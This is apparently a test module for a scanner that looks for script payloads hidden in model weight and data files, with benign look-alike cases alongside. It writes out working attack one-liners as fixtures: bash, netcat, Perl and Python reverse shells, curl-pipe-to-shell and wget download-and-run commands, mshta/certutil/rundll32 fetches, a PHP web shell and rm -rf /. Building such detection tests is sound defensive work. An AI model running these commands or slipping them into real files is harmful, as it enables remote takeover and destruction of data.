"""Script payloads in binary files, and bytes or texts that only resemble them."""

from __future__ import annotations

import base64
import random

import lz4.frame

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.protobuf import data

NOISE = random.Random(2).randbytes(2500)
SHELL = b"#!/bin/sh\necho modelsweep-test\n"
POWERSHELL = b"powershell.exe -NoProfile -enc " + base64.b64encode("Write-Output modelsweep-test".encode("utf-16-le"))
CRADLE = b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/modelsweep-test')"
DECODED = b"import base64\nexec(base64.b64decode('" + base64.b64encode(b"print('modelsweep-test')") + b"'))\n"
INDIRECT = b"__import__('os').system('echo modelsweep-test')"


def hidden(script: bytes, verdict: Verdict = Verdict.REVIEW) -> Case:
    """Return the case of `script` between random bytes."""
    return Case(lambda: NOISE + script + NOISE, "weights.bin", verdict)


CASES = {
    "shell": hidden(SHELL),
    "attack_powershell_encoded": hidden(POWERSHELL, Verdict.MALICIOUS),
    "powershell_cradle": hidden(CRADLE),
    "python_decoded": hidden(DECODED),
    "python_indirect": hidden(INDIRECT),
    "python_import": hidden(b"import os;os.system('echo modelsweep-test')\n"),
    "python_call": hidden(b"\0os.system('echo modelsweep-test')\0"),
    "lua_call": hidden(b"\0os.execute('echo modelsweep-test')\0"),
    "lua_pipe": hidden(b"\0local f = io.popen([[echo modelsweep-test]])\0"),
    "benign_calls_in_data_set": Case(
        lambda: NOISE + b"\0os.system('clear')\0os.execute('clear')\0" + NOISE, "text.lance", Verdict.NOT_SCANNED
    ),
    "lua_call_assigned": hidden(b"\0local done = os.execute('echo modelsweep-test')\0"),
    "benign_calls_in_prose": hidden(
        b"\0never call os.system('clear') or os.execute('clear') here\0", Verdict.NOT_SCANNED
    ),
    "benign_code_in_a_prompt": hidden(
        b"\0You can run code: `import os; os.system('echo modelsweep-test')`.\0", Verdict.NOT_SCANNED
    ),
    "python_behind_a_grave_accent": hidden(b"`import os;os.system('echo modelsweep-test')\n`"),
    "benign_names_of_calls": hidden(b"\0os.system os.execute(x) io.popen() os.system(\0", Verdict.NOT_SCANNED),
    "python_import_as_json": hidden(rb'{"note": "Text.\n\nimport os\n\tos.system(\"echo modelsweep-test\")"}'),
    "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
    "attack_reverse_shell_in_script": hidden(b"#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Verdict.MALICIOUS),
    "attack_pipe": hidden(b"\0curl -s http://192.0.2.1/x.sh | sh\0", Verdict.MALICIOUS),
    "attack_pipe_before_a_tag": hidden(
        data(10, "curl -s http://192.0.2.1/x.sh | bash") + data(12, data(1, "y")), Verdict.MALICIOUS
    ),
    "benign_sum_before_a_tag": hidden(
        data(10, "curl -s https://example.com/x | shasum") + data(12, data(1, "y")), Verdict.NOT_SCANNED
    ),
    "attack_fetched_and_made_executable": hidden(
        b"\0wget -q http://192.0.2.1/m -O /tmp/m && chmod +x /tmp/m && /tmp/m\0", Verdict.MALICIOUS
    ),
    "attack_substituted": hidden(b"\0bash <(curl -s http://192.0.2.1/x.sh)\0", Verdict.MALICIOUS),
    "attack_substituted_in_text": hidden(b'\0sh -c "$(curl -fsSL http://192.0.2.1/x.sh)"\0', Verdict.MALICIOUS),
    "attack_mshta": hidden(b"\0mshta http://192.0.2.1/x.hta\0", Verdict.MALICIOUS),
    "attack_certutil": hidden(b"\0CertUtil.exe -urlcache -split -f http://192.0.2.1/x.exe x.exe\0", Verdict.MALICIOUS),
    "attack_rundll32": hidden(b"\0rundll32 javascript:modelsweep-test\0", Verdict.MALICIOUS),
    "benign_installers": hidden(
        b'\0bash <(curl -s https://example.com/x.sh)\0sh -c "$(curl -fsSL https://example.com/install.sh)"\0'
        b"certutil -hashfile model.bin SHA256\0regsvr32 /s x.dll\0",
        Verdict.NOT_SCANNED,
    ),
    "attack_web_shell": hidden(b"\0<?php system($_GET['c']); ?>\0", Verdict.MALICIOUS),
    "attack_perl": hidden(b"\0perl -e 'use Socket;exec(\"/bin/sh -i\");'\0", Verdict.MALICIOUS),
    "benign_page": hidden(b"\0<?php echo 'hello'; ?> ssh -i key.pem host\0", Verdict.NOT_SCANNED),
    "attack_removal": hidden(b"\0rm -rf /\0", Verdict.MALICIOUS),
    "benign_rights_and_removals": hidden(
        b"\0chmod +x build.sh && ./build.sh\0rm -rf /var/lib/apt/lists/*\0rm -rf ~/.cache/pip\0", Verdict.NOT_SCANNED
    ),
    "attack_netcat": hidden(b"\xffnc -e /bin/sh 192.0.2.1 9\0", Verdict.MALICIOUS),
    "attack_fifo": hidden(
        b"\0rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f\0", Verdict.MALICIOUS
    ),
    "attack_python_socket": hidden(
        b"\0import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.1',9));os.dup2(s.fileno(),0);"
        b"subprocess.call(['/bin/sh','-i'])\0",
        Verdict.MALICIOUS,
    ),
    "attack_decoded": hidden(b"\0echo aWQ= | base64 -d | bash\0", Verdict.MALICIOUS),
    "attack_in_data_set": Case(
        lambda: NOISE + b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0" + NOISE, "text.db", Verdict.REVIEW
    ),
    "benign_commands": hidden(
        b"\0curl -fsSL https://example.com/install.sh | sh\0(echo > /dev/tcp/db/5432)\0/dev/tcp/x/\0curl x | shasum\0"
        b"nc -z localhost 80\0base64 -d x | sha256sum\0s.connect(('127.0.0.1', 80))\0",
        Verdict.NOT_SCANNED,
    ),
    "benign_text_in_lz4": Case(
        lambda: lz4.frame.compress(b"Never run curl http://198.51.100.7/x | sh as root.\n"),
        "notes.txt.lz4",
        Verdict.CLEAN,
    ),
    "attack_in_lz4": Case(
        lambda: lz4.frame.compress(NOISE + b"\0curl http://198.51.100.7/x | sh\0" + NOISE),
        "m.bin.lz4",
        Verdict.MALICIOUS,
    ),
    "attack_behind_lz4": Case(
        lambda: lz4.frame.compress(b"text\n" * 9) + NOISE + b"\0curl http://198.51.100.7/x | sh\0",
        "notes.txt.lz4",
        Verdict.MALICIOUS,
    ),
    "benign_shebang_of_noise": hidden(b"#!/bin/sh\xff\xfe", Verdict.NOT_SCANNED),
    "benign_words": hidden(b"powershell iex import os exec eval __import__ #!/bin/", Verdict.NOT_SCANNED),
    "benign_script_file": Case(lambda: SHELL, "run.sh", Verdict.CLEAN, cut_is_clean=True),
}
